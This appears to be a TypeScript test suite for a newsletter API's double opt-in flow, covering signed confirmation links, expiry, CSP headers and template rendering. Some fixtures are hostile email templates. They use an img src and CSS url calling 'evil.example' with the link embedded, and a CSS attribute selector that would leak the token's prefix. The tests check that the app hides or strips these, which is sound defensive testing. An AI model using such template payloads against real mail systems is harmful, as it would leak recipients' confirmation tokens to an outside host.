// Double opt-in (API.md 4.1.1): an activated sender is required; new contacts wait in status 2 with a
// confirmation email in the outbox; following the link in that email makes them Active.
import { after, before, describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { DIALECTS } from '../../helpers/databases.js'
import { startTestApp, type TestApp } from '../../helpers/app.js'
import { snapshotDatabase, type TestAccount } from '../../helpers/factories.js'
import { activeSender } from '../../helpers/senders.js'
import { signToken } from '../../../src/tracking/signed-token.js'
import { signingKey } from '../../../src/tracking/signing-key.js'

for (const dialect of DIALECTS) {
  describe(`double opt-in on ${dialect}`, () => {
    let t: TestApp
    let account: TestAccount
    let bookId: number
    const optIn = (payload: Record<string, unknown>, who = account, id = bookId) =>
      t.call(who, { method: 'POST', url: `/addressbooks/${id}/emails`, payload: { confirmation: 'force', message_lang: 'en', ...payload } })
    const confirmations = (to: string) =>
      t.deps.db.selectFrom('outbox').selectAll().where('kind', '=', 'confirmation').where('to_email', '=', to).orderBy('id').execute()
    const status = async (email: string) =>
      (await t.call(account, { method: 'GET', url: `/addressbooks/${bookId}/emails/${email}` })).json<{ status: number }>().status

    before(async () => {
      t = await startTestApp(dialect, { publicUrl: 'https://news.example.org' })
      account = await t.account()
      bookId = (await t.call(account, { method: 'POST', url: '/addressbooks', payload: { bookName: 'Opt-in <list>' } })).json<{ id: number }>().id
      await activeSender(t, account, 'owner@example.org', 'Owner & Co')
    })
    after(() => t.close())

    it('adds contacts awaiting confirmation, emails them a signed link, and the link activates them', async () => {
      const res = await optIn({ sender_email: 'owner@example.org', emails: [{ email: 'reader@example.com', variables: { name: 'Reader' } }] })
      assert.deepEqual([res.statusCode, res.json()], [200, { result: true }])
      assert.equal(await status('reader@example.com'), 2)
      const [email] = await confirmations('reader@example.com')
      assert.ok(email, 'a confirmation email is in the outbox')
      assert.equal(email.from_email, 'owner@example.org')
      assert.equal(email.from_name, 'Owner & Co')
      assert.equal(email.status, 'queued')
      assert.match(email.subject, /Opt-in <list>/)
      assert.ok(email.html.includes('Opt-in &lt;list&gt;'), 'the list name is escaped in the HTML')
      const link = /https:\/\/news\.example\.org\/confirm\/\S+/.exec(email.text)?.[0]
      assert.ok(link, `a link in: ${email.text}`)

      const tampered = await t.app.inject({ method: 'POST', url: new URL(link).pathname.slice(0, -2) + 'xx' })
      assert.equal(tampered.statusCode, 404)
      assert.equal(await status('reader@example.com'), 2, 'a tampered link changes nothing')

      const opened = await t.app.inject({ method: 'GET', url: new URL(link).pathname })
      assert.equal(opened.statusCode, 200)
      assert.match(String(opened.headers['content-type']), /text\/html/)
      assert.match(opened.body, /<form method="post" action="https:&#x2F;&#x2F;news\.example\.org&#x2F;confirm&#x2F;[^"]+"><button/)
      assert.equal(await status('reader@example.com'), 2, 'opening the link (a mail scanner does) confirms nothing')
      const pressed = await t.app.inject({ method: 'POST', url: new URL(link).pathname, payload: '', headers: { 'content-type': 'application/x-www-form-urlencoded' } })
      assert.equal(pressed.statusCode, 200)
      assert.match(pressed.body, /confirmed/)
      assert.equal(await status('reader@example.com'), 1)
      for (const method of ['GET', 'POST'] as const) {
        const again = await t.app.inject({ method, url: new URL(link).pathname })
        assert.match(again.body, /already been used/)
      }
    })

    it('serves the confirmation page under a sandboxing policy whose form may post only to the link itself', async () => {
      await optIn({ sender_email: 'owner@example.org', emails: ['policy@example.com'] })
      const [email] = await confirmations('policy@example.com')
      const link = /https:\/\/news\.example\.org\/confirm\/\S+/.exec(email!.text)![0]
      const page = await t.app.inject({ method: 'GET', url: new URL(link).pathname })
      const policy = String(page.headers['content-security-policy'])
      assert.match(policy, /(^|; )sandbox allow-forms(;|$)/)
      assert.match(policy, /(^|; )base-uri 'none'(;|$)/)
      assert.match(policy, /(^|; )default-src 'none'(;|$)/)
      assert.match(policy, /(^|; )frame-ancestors 'none'(;|$)/)
      assert.ok(policy.split('; ').includes(`form-action ${link}`), policy)
      assert.equal(page.headers['referrer-policy'], 'no-referrer', 'the token in the URL goes to no other site')
      const done = await t.app.inject({ method: 'POST', url: new URL(link).pathname })
      assert.match(String(done.headers['content-security-policy']), /form-action 'none'; sandbox(;|$)/)
    })

    it(`refuses a link older than the link lifetime with 410, changing nothing, and one issued before links carried their time`, async () => {
      await optIn({ sender_email: 'owner@example.org', emails: ['late@example.com', 'legacy@example.com'] })
      const [email] = await confirmations('late@example.com')
      const path = new URL(/https:\/\/news\.example\.org\/confirm\/\S+/.exec(email!.text)![0]).pathname
      t.clock.advance(30 * 86_400_000 + 60_000)
      try {
        for (const method of ['GET', 'POST'] as const) {
          const res = await t.app.inject({ method, url: path })
          assert.equal(res.statusCode, 410, method)
          assert.match(res.body, /expired/)
        }
        const stored = await t.deps.db.selectFrom('contacts').select('status').where('email', '=', 'late@example.com').executeTakeFirstOrThrow()
        assert.equal(stored.status, 2, 'an expired link confirms nothing (read from the database: the access token expired too)')
      } finally {
        t.clock.advance(-(30 * 86_400_000 + 60_000))
      }
      const contact = await t.deps.db.selectFrom('contacts').select('id').where('email', '=', 'legacy@example.com').executeTakeFirstOrThrow()
      const legacy = signToken(await signingKey(t.deps), 'confirm', String(contact.id))
      const res = await t.app.inject({ method: 'POST', url: `/confirm/${legacy}` })
      assert.equal(res.statusCode, 410, 'a link without an issue time cannot be dated, so it gives no consent')
      assert.equal(await status('legacy@example.com'), 2)
      const fresh = await t.app.inject({ method: 'POST', url: path })
      assert.equal(fresh.statusCode, 200, 'within its lifetime the link still confirms')
      assert.equal(await status('late@example.com'), 1)
    })

    it('does not email contacts that are already confirmed, and emails again those still waiting', async () => {
      await optIn({ sender_email: 'owner@example.org', emails: ['waiting@example.com'] })
      await optIn({ sender_email: 'owner@example.org', emails: ['waiting@example.com', 'reader@example.com'] })
      assert.equal((await confirmations('waiting@example.com')).length, 2)
      assert.equal((await confirmations('reader@example.com')).length, 1, 'an Active contact is not asked again')
      assert.equal(await status('reader@example.com'), 1)
    })

    it('writes the email in the language asked for', async () => {
      await optIn({ sender_email: 'owner@example.org', message_lang: 'ua', emails: ['ukr@example.com'] })
      const [email] = await confirmations('ukr@example.com')
      assert.match(email?.html ?? '', /lang="uk"/)
    })

    it('refuses a sender that is not activated, a bad language or confirmation, and stores nothing', async () => {
      await t.call(account, { method: 'POST', url: '/senders', payload: { email: 'fresh@example.org', name: 'Fresh' } })
      const before = await snapshotDatabase(t.deps)
      const cases: [Record<string, unknown>, { error_code: number; message: string }][] = [
        [{ sender_email: 'fresh@example.org' }, { error_code: 1003, message: 'Sender not found' }],
        [{ sender_email: 'nobody@example.org' }, { error_code: 1003, message: 'Sender not found' }],
        [{}, { error_code: 422, message: 'Argument sender_email missing' }],
        [{ sender_email: 'owner@example.org', confirmation: 'yes' }, { error_code: 422, message: 'Argument confirmation is invalid' }],
      ]
      for (const [payload, error] of cases) {
        const res = await optIn({ emails: ['new@example.com'], ...payload })
        assert.deepEqual([res.statusCode, res.json()], [422, error], JSON.stringify(payload))
      }
      const badLang = await optIn({ sender_email: 'owner@example.org', message_lang: 'fr', emails: ['new@example.com'] })
      assert.equal(badLang.statusCode, 422)
      assert.match(badLang.json<{ message: string }>().message, /^Argument message_lang is invalid/)
      assert.deepEqual(await snapshotDatabase(t.deps), before)
    })

    it("sends the account's template with the contact's variables and the link put in", async () => {
      const template = '<html><body><p>Hi {{name}}!</p><a href="{{confirmation_link}}">Yes, subscribe me</a></body></html>'
      const created = await t.call(account, { method: 'POST', url: '/template', payload: { name: 'Confirm me', body: Buffer.from(template).toString('base64') } })
      const templateId = created.json<{ real_id: number }>().real_id
      const res = await optIn({ sender_email: 'owner@example.org', template_id: String(templateId), emails: [{ email: 'tpl@example.com', variables: { name: '<Tom>' } }] })
      assert.deepEqual(res.json(), { result: true })
      const [email] = await confirmations('tpl@example.com')
      assert.match(email?.html ?? '', /<p>Hi &lt;Tom&gt;!<\/p>/)
      const link = /href="(https:\/\/news\.example\.org\/confirm\/[^"]+)"/.exec(email?.html ?? '')?.[1]
      assert.ok(link, `the link is in the template's anchor: ${email?.html}`)
      assert.match(email?.text ?? '', /Yes, subscribe me/, 'the text part comes from the HTML')
      await t.app.inject({ method: 'POST', url: new URL(link).pathname })
      assert.equal(await status('tpl@example.com'), 1)

      const bare = await t.call(account, { method: 'POST', url: '/template', payload: { name: 'No link', body: Buffer.from('<p>Welcome</p>').toString('base64') } })
      await optIn({ sender_email: 'owner@example.org', template_id: bare.json<{ real_id: number }>().real_id, emails: ['bare@example.com'] })
      const [appended] = await confirmations('bare@example.com')
      const unescaped = (appended?.html ?? '').replaceAll('&#x2F;', '/')
      assert.match(unescaped, /<p>Welcome<\/p><p><a href="https:\/\/news\.example\.org\/confirm\//, 'a template without the link still gets it')

      const unknown = await optIn({ sender_email: 'owner@example.org', template_id: 999999, emails: ['nope@example.com'] })
      assert.deepEqual([unknown.statusCode, unknown.json()], [422, { error_code: 422, message: 'Argument template_id is invalid: no such template' }])
    })

    // The real email as it goes out (the operator's full copy in the outbox), its link and where that link is.
    const TOKEN = /https:\/\/news\.example\.org\/confirm\/([A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)/
    const count = (text: string, part: string) => text.split(part).length - 1
    const viaTemplate = async (name: string, template: string, to: string) => {
      const created = await t.call(account, { method: 'POST', url: '/template', payload: { name, body: Buffer.from(template).toString('base64') } })
      const res = await optIn({ sender_email: 'owner@example.org', template_id: created.json<{ real_id: number }>().real_id, emails: [to] })
      assert.deepEqual(res.json(), { result: true })
      const [email] = await confirmations(to)
      assert.ok(email, `a confirmation to ${to}`)
      const token = TOKEN.exec(email.text)?.[1]
      assert.ok(token, `the text part shows the link to click: ${email.text}`)
      return { email, token, mac: token.split('.')[1]! }
    }

    it("puts the link into the account's template only as an anchor's href: an image (fetched on delivery) gets [hidden]", async () => {
      const { email, token, mac } = await viaTemplate(
        'Prefetch',
        '<html><body><img src="https://evil.example/?u={{confirmation_link}}"><p style="background:url({{confirmation_link}})">Hi</p>' +
          '<a href="{{confirmation_link}}">Confirm</a></body></html>',
        'prefetched@example.com',
      )
      assert.equal(count(email.html, mac), 1, `the signature once in the HTML: ${email.html}`)
      assert.ok(email.html.includes(`<a href="https://news.example.org/confirm/${token}">Confirm</a>`), email.html)
      assert.ok(email.html.includes('<img src="https://evil.example/?u=[hidden]">'), email.html)
      assert.ok(email.html.includes('<p style="background:url([hidden])">'), email.html)
      assert.equal(count(email.text, mac), 1, email.text)
      assert.ok(email.text.replace(/\s+/g, ' ').includes(`Confirm [https://news.example.org/confirm/${token}]`), email.text)
      for (const shown of [email.subject, email.shown_subject, email.shown_html, email.shown_text]) assert.ok(!String(shown).includes(mac))
      assert.ok(email.shown_html?.includes('<a href="[hidden]">Confirm</a><') && email.shown_html.includes('src="https://evil.example/?u=[hidden]"'), 'the account is shown what was sent')
      const pressed = await t.app.inject({ method: 'POST', url: `/confirm/${token}` })
      assert.equal(pressed.statusCode, 200, 'the anchor confirms')
      assert.equal(await status('prefetched@example.com'), 1)
    })

    it("shows no link in the template's text, title or subject: only the anchor's href carries it", async () => {
      const { email, token, mac } = await viaTemplate(
        'In text',
        '<html><head><title>{{confirmation_link}}</title></head><body><p>Paste {{confirmation_link}} into your browser</p>' +
          '<a href="{{confirmation_link}}">{{confirmation_link}}</a></body></html>',
        'in-text@example.com',
      )
      assert.equal(count(email.html, mac), 1, email.html)
      assert.ok(email.html.includes('<title>[hidden]</title>') && email.html.includes('<p>Paste [hidden] into your browser</p>'), email.html)
      assert.ok(email.html.includes(`<a href="https://news.example.org/confirm/${token}">[hidden]</a>`), email.html)
      assert.equal(count(email.text, mac), 1, email.text)
      assert.ok(!email.subject.includes(mac) && !email.subject.includes('confirm/'), email.subject)
    })

    it("drops the template's stylesheets that could read the anchor's href on delivery, and keeps the others", async () => {
      const { email, token } = await viaTemplate(
        'Reads href',
        '<html><head><style>a[href^="https://news.example.org/confirm/M"] { background: url(https://evil.example/M) }</style>' +
          '<style>p { color: #333 }</style><link rel="stylesheet" href="https://evil.example/more.css"></head>' +
          '<body><p>Hi</p><a href="{{confirmation_link}}">Confirm</a></body></html>',
        'css-reader@example.com',
      )
      assert.equal(
        email.html,
        `<html><head><style>p { color: #333 }</style></head><body><p>Hi</p><a href="https://news.example.org/confirm/${token}">Confirm</a></body></html>`,
      )
    })

    it("adds the link block when the template has the link nowhere a click follows it, and shows it to no image", async () => {
      const { email, token, mac } = await viaTemplate('Image only', '<p><img src="{{confirmation_link}}">Welcome</p>', 'image-only@example.com')
      assert.equal(count(email.html, mac), 1, email.html)
      assert.ok(email.html.includes('<img src="[hidden]">'), email.html)
      assert.ok(email.html.includes(`<a href="https://news.example.org/confirm/${token}">Confirm subscription</a>`), email.html)
    })

    it('uses only senders of the same account', async () => {
      const other = await t.account()
      const otherBook = (await t.call(other, { method: 'POST', url: '/addressbooks', payload: { bookName: 'Theirs' } })).json<{ id: number }>().id
      const res = await optIn({ sender_email: 'owner@example.org', emails: ['x@example.com'] }, other, otherBook)
      assert.deepEqual(res.json(), { error_code: 1003, message: 'Sender not found' })
    })
  })
}
